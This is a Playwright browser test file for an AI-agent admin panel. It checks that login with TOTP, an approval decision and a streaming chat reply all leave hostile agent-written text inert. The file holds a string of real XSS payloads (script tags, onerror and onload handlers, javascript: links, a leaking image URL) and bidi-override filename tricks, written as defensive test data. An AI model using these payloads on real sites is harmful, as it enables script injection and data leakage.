"""The panel in a real browser: Debian's chromium through Playwright, the
real app on uvicorn, a real SQLite store, and FakeClawOps for the claws.

An admin logs in with password and TOTP, decides an approval with a fresh
code, and a member chats and watches the reply stream in. Hostile text sits
in every place the panel shows claw-made text — a claw's member name, its
memory file, its console log, its messages, an approval's arguments and a
chat reply — and every page stays inert: no dialog, no script error, no
request off the panel's origin, no image or javascript: link in the DOM.
Screenshots of the dashboard, a claw page, the chat and the inbox are saved
as artefacts (docs/panel.md uses them)."""

from __future__ import annotations

import threading
from collections.abc import Iterator
from datetime import UTC, datetime

import pytest
from playwright.sync_api import Page, expect

from tests.support.browser import PageEvents, save_screenshot
from tests.support.panel import PASSWORD, Harness, served
from web.app import create_app

# Everything a prompt-injected claw might try, in one text. The remote
# image points at the discard port on loopback: a request to it would be
# recorded (and refused), never sent anywhere real.
HOSTILE = (
    "Hello <script>alert('script')</script> <img src=x onerror=alert('img')>\n\n"
    "[click me](javascript:alert('link')) ![leak](http://127.0.0.1:9/leak?d=secret)\n\n"
    "<svg onload=alert('svg')></svg> <a href=\"javascript:alert('a')\">a</a>\n\n"
    "invoice\u202egnp.exe and zero\u200bwidth"
)


@pytest.fixture
def home(panel: Harness) -> Iterator[tuple[Harness, str]]:
    panel.clock.now = datetime.now(UTC)  # the approvals' own clock is the real one
    panel.add_claw("alice", member="Alice <img src=x onerror=alert('member')>")
    panel.add_user("mum", "admin")
    panel.add_user("ana", "member", ("alice",), with_totp=False)
    claws = panel.claws
    claws.files["alice"] = {"MEMORY.md": HOSTILE, "USER.md": "# Ana\n\n" + HOSTILE}
    claws.consoles["alice"] = ["[    1.0] booting", *HOSTILE.splitlines(), "\x1b[31mred\x1b[0m"]
    claws.messages = panel.store.messages
    panel.store.messages.add("alice", "out", "web", "alice", HOSTILE)
    with served(create_app(panel.panel)) as url:
        yield panel, url


def _log_in(page: Page, panel: Harness, url: str, name: str) -> None:
    page.goto(f"{url}/login")
    page.fill("input[name=name]", name)
    page.fill("input[name=password]", PASSWORD)
    if name in panel.secrets:
        page.fill("input[name=code]", panel.code(name))
    page.click("button[type=submit]")
    expect(page.locator(".who")).to_contain_text(name)


def _no_live_hostile_markup(page: Page) -> None:
    for selector in (
        "main img",
        "main svg[onload]",
        "main [onerror]",
        "main a[href^='javascript']",
        "main script",
    ):
        assert page.locator(selector).count() == 0, f"{selector} in {page.url}"


def test_the_admin_approves_with_totp_and_hostile_text_stays_inert(
    home: tuple[Harness, str], page: Page, page_events: PageEvents
) -> None:
    panel, url = home
    approval = panel.store.approvals.request("alice", "message.send", HOSTILE, 600)
    _log_in(page, panel, url, "mum")
    expect(page.locator("#claw-alice")).to_be_visible()
    expect(page.locator("#approval-badge")).to_have_text("1")
    save_screenshot(page, "panel-dashboard")
    _no_live_hostile_markup(page)

    page.goto(f"{url}/claws/alice")
    expect(page.locator("#claw-files")).to_contain_text("MEMORY.md")
    page.click("#claw-files a:text('MEMORY.md')")
    expect(page.locator("#file-view")).to_contain_text("\\u202e")  # bidi made visible
    expect(page.locator("pre.console")).to_contain_text("\\x1b[31mred")
    save_screenshot(page, "panel-claw-page")
    _no_live_hostile_markup(page)

    page.goto(f"{url}/approvals")
    card = page.locator(f"#approval-{approval.id}")
    expect(card.locator("pre.details")).to_contain_text("zero\\u200bwidth")
    expect(card.locator("pre.details")).to_contain_text("<script>alert('script')</script>")
    save_screenshot(page, "panel-inbox")
    _no_live_hostile_markup(page)
    card.locator("input[name=code]").fill(panel.code("mum"))
    card.locator("button[value=approve]").click()
    expect(page.locator(f"#approval-{approval.id}")).to_have_count(0)
    decided = panel.store.approvals.require(approval.id)
    assert (decided.status, decided.decided_by) == ("approved", "user:mum")
    page_events.assert_inert(url)


def test_a_member_chats_and_sees_the_reply_stream_in(
    home: tuple[Harness, str], page: Page, page_events: PageEvents
) -> None:
    panel, url = home
    gate = threading.Event()
    panel.claws.gate = gate  # the fake sends its first piece, then waits
    panel.claws.replies["alice"] = ["Thinking about it… ", HOSTILE]
    _log_in(page, panel, url, "ana")
    page.goto(f"{url}/claws/alice/chat")
    page.fill("#chat-form textarea[name=text]", "what's on today?")
    page.click("#chat-form button[type=submit]")
    # The first piece is on screen while the claw is still "writing".
    expect(page.locator("#chat-log")).to_contain_text("Thinking about it…")
    assert panel.claws.finished == []
    gate.set()
    # Then the stored reply, rendered by the server, replaces the stream.
    expect(page.locator("#chat-log .msg-pending")).to_have_count(0)
    expect(page.locator("#chat-log")).to_contain_text("invoice\\u202egnp.exe")
    assert panel.claws.senders == ["ana"]
    save_screenshot(page, "panel-chat")
    _no_live_hostile_markup(page)
    page_events.assert_inert(url)
